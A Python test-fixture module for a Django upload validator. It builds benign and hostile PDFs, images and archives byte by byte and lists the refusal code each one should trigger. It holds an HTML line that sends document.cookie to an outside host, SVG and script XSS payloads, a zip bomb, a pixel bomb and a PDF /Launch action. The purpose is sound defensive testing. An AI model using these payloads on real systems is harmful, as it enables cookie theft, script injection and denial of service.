"""Files for tests, made byte by byte: what people send, and what a hostile person would."""

import hashlib
import io
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

Objects = Mapping[int, bytes]
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >> %s >>"
)
_TEXT = b"BT /F1 18 Tf 40 300 Td (Extrait Kbis fictif) Tj ET"


def stream(body: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(body), head, body)


def objects(catalog: bytes = b"", page: bytes = b"", more: Objects | None = None) -> Objects:
    """A document of one page with a line of text."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: _PAGE % page,
        4: stream(_TEXT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(more or {}),
    }


def assemble(made: Objects, trailer: bytes = b"", *, shift: int = 0, tail: bool = True) -> bytes:
    """`shift`: how wrong each place of the table is; `tail`: whether there is a table at all."""
    body, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", {}
    for number, content in made.items():
        places[number] = len(body) + shift
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    if not tail:
        return body
    size = max(made) + 1
    lines = [
        b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
        for number in range(size)
    ]
    table = b"xref\n0 %d\n%s" % (size, b"".join(lines))
    named = b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (size, trailer)
    return body + table + named + b"startxref\n%d\n%%%%EOF\n" % (len(body) + shift)


def pdf(catalog: bytes = b"", page: bytes = b"", more: Objects | None = None) -> bytes:
    return assemble(objects(catalog, page, more))


def form() -> bytes:
    """As most administrative forms: a field, a calculation, a script at the opening."""
    return pdf(
        b"/AcroForm << /Fields [6 0 R] /NeedAppearances true >> "
        b"/OpenAction << /S /JavaScript /JS (this.getField\\('nom'\\).setFocus\\(\\);) >>",
        b"/Annots [6 0 R]",
        {
            6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /V (Camille Essai) /F 4 "
            b"/Rect [40 200 260 225] /P 3 0 R "
            b"/AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(0\\);) >> >> >>"
        },
    )


def packed(catalog: bytes = b"") -> bytes:
    """Catalog, pages and fonts in a compressed object stream, found by a cross-reference stream."""
    made = objects(catalog)
    inside = [number for number in made if number != 4]
    texts = [made[number] for number in inside]
    starts = [sum(len(text) + 1 for text in texts[:at]) for at in range(len(texts))]
    head = b" ".join(b"%d %d" % pair for pair in zip(inside, starts, strict=True)) + b" "
    body = zlib.compress(head + b" ".join(texts))
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = {4: len(out)}
    out += b"4 0 obj\n%s\nendobj\n" % made[4]
    places[6] = len(out)
    kind = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(inside), len(head))
    out += b"6 0 obj\n%s\nendobj\n" % stream(body, kind)
    places[7] = len(out)
    rows = [b"\0\0\0\0\xff"]
    for number in range(1, 8):
        if number in places:
            rows.append(b"\1" + places[number].to_bytes(3) + b"\0")
        else:
            rows.append(b"\2" + (6).to_bytes(3) + bytes([inside.index(number)]))
    kind = b"/Type /XRef /Size 8 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode"
    out += b"7 0 obj\n%s\nendobj\n" % stream(zlib.compress(b"".join(rows)), kind)
    return out + b"startxref\n%d\n%%%%EOF\n" % places[7]


def linearised() -> bytes:
    """The first page's objects and table before the others, as files made for the web."""
    made = objects()
    body = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n8 0 obj\n<< /Linearized 1 /N 1 /O 3 >>\nendobj\n"
    places = {}
    for number in (1, 3, 4):
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, made[number])
    first = len(body)
    entries = b"".join(b"%d 1\n%010d 00000 n \n" % (number, places[number]) for number in (1, 3, 4))
    head = b"trailer\n<< /Size 9 /Root 1 0 R /Prev %010d >>\nstartxref\n0\n%%%%EOF\n"
    rest = first + len(b"xref\n" + entries + head % 0)
    later = b""
    for number in (2, 5):
        places[number] = rest + len(later)
        later += b"%d 0 obj\n%s\nendobj\n" % (number, made[number])
    body += b"xref\n" + entries + head % (rest + len(later)) + later
    table = b"xref\n0 1\n0000000000 65535 f \n" + b"".join(
        b"%d 1\n%010d 00000 n \n" % (number, places[number]) for number in (2, 5)
    )
    return body + table + b"trailer\n<< /Size 9 >>\nstartxref\n%d\n%%%%EOF\n" % first


def updated() -> bytes:
    """Saved once more by adding to the end, as signatures and annotations are."""
    before = pdf()
    at = len(before)
    again = b"4 0 obj\n%s\nendobj\n" % stream(_TEXT + b" ")
    table = b"xref\n4 1\n%010d 00000 n \n" % at
    start = before.rindex(b"startxref\n") + 10
    prev = int(before[start:].split()[0])
    tail = b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return before + again + table + tail % (prev, at + len(again))


_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def _rc4(key: bytes, data: bytes) -> bytes:
    state, other, out = list(range(256)), 0, bytearray()
    for at in range(256):
        other = (other + state[at] + key[at % len(key)]) % 256
        state[at], state[other] = state[other], state[at]
    one = other = 0
    for byte in data:
        one = (one + 1) % 256
        other = (other + state[one]) % 256
        state[one], state[other] = state[other], state[one]
        out.append(byte ^ state[(state[one] + state[other]) % 256])
    return bytes(out)


def locked(user: bytes) -> bytes:
    """Encrypted by the first standard handler; b"" as `user`: everybody may open it."""
    name, allowed = b"0123456789abcdef", b"\xfc\xff\xff\xff"
    owner = _rc4(hashlib.md5((b"owner" + _PAD)[:32]).digest()[:5], (user + _PAD)[:32])  # noqa: S324
    key = hashlib.md5((user + _PAD)[:32] + owner + allowed + name).digest()[:5]  # noqa: S324
    of_four = hashlib.md5(key + b"\4\0\0\0\0").digest()[:10]  # noqa: S324
    made = objects(
        more={
            4: stream(_rc4(of_four, _TEXT)),
            6: b"<< /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>"
            % (owner.hex().encode(), _rc4(key, _PAD).hex().encode()),
        }
    )
    ids = b"/Encrypt 6 0 R /ID [<%s> <%s>]" % (name.hex().encode(), name.hex().encode())
    return assemble(made, ids)


# --- pictures and archives ---


def picture(kind: str, size: tuple[int, int] = (40, 60)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (180, 40, 40)).save(out, kind)
    return out.getvalue()


def png(width: int = 40, height: int = 60) -> bytes:
    return picture("PNG", (width, height))


def jpeg() -> bytes:
    return picture("JPEG")


def picture_bomb() -> bytes:
    """A picture that says of itself that it has ten thousand million pixels."""
    made = png()
    head = made[12:16] + (100_000).to_bytes(4) * 2 + made[24:29]
    return made[:12] + head + zlib.crc32(head).to_bytes(4) + made[33:]


def archive(name: str = "a.html", body: bytes = b"<script>alert(1)</script>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, body)
    return out.getvalue()


def bomb() -> bytes:
    """Ten megabytes of zeros in ten kilobytes, said to be a document."""
    return archive("document.pdf", b"\0" * 10_000_000)


HTML = b"<!doctype html><script>fetch('//example.org/'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"


def sent(data: bytes | None = None, name: str = "Kbis.pdf") -> SimpleUploadedFile:
    """As a browser sends it, whose word about its type is nothing."""
    return SimpleUploadedFile(name, pdf() if data is None else data, content_type="text/html")


def list_kept(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


# What an ordinary reader opens: name → (bytes, whether the original is active).
ORDINARY = {
    "one page": (pdf(), False),
    "version 2.0": (pdf().replace(b"%PDF-1.7", b"%PDF-2.0"), False),
    "lines of a mail gateway before it": (b"\r\n\r\n" + pdf(), False),
    "lines of a mail gateway after it": (pdf() + b"\r\n-- \r\nexample.org\r\n" * 90, False),
    "a form with scripts": (form(), True),
    "a form without scripts": (pdf(b"/AcroForm << /Fields [] >>"), False),
    "a table of wrong places": (assemble(objects(), shift=17), False),
    "no table at all": (assemble(objects(), tail=False), False),
    "cut in its table": (pdf()[:-60], False),
    "packed objects": (packed(), False),
    "packed objects with a script": (
        packed(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        True,
    ),
    "linearised": (linearised(), False),
    "saved once more": (updated(), False),
    "encrypted for everybody to open": (locked(b""), False),
    "a script under an escaped name": (pdf(b"/OpenAction << /S /#4aavaScript /JS (1) >>"), True),
    "a program to launch": (pdf(b"/OpenAction << /S /Launch /F (a.exe) >>"), True),
    "a file in it": (
        pdf(
            b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
            more={
                6: b"<< /Type /Filespec /F (a.xml) /EF << /F 7 0 R >> >>",
                7: stream(b"<a/>", b"/Type /EmbeddedFile"),
            },
        ),
        True,
    ),
    "an archive after it": (pdf() + archive(), False),
}
# name → (bytes, the code of the refusal)
REFUSED = {
    "html": (HTML, "file_type"),
    "svg": (SVG, "file_type"),
    "zip": (archive(), "file_type"),
    "zip bomb": (bomb(), "file_type"),
    "program": (b"MZ\x90\0" + b"\0" * 200, "file_type"),
    "gif": (b"GIF89a" + b"\0" * 30, "file_type"),
    "text": (b"Voici mon Kbis.", "file_type"),
    "empty": (b"", "file_empty"),
    "pdf that is a word": (b"%PDF-1.7\n<script>alert(1)</script>", "file_damaged"),
    "pdf without a page": (
        assemble({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Kids [] /Count 0 >>"}),
        "file_damaged",
    ),
    "pdf under a password": (locked(b"secret"), "file_locked"),
    "png cut short": (png()[:-30], "file_damaged"),
    "png without its head": (b"\x89PNG\r\n\x1a\n" + png()[33:], "file_damaged"),
    "png bomb": (picture_bomb(), "file_pixels"),
    "jpeg cut short": (jpeg()[:300], "file_damaged"),
    "jpeg of four letters": (b"\xff\xd8\xff\xe0", "file_damaged"),
}
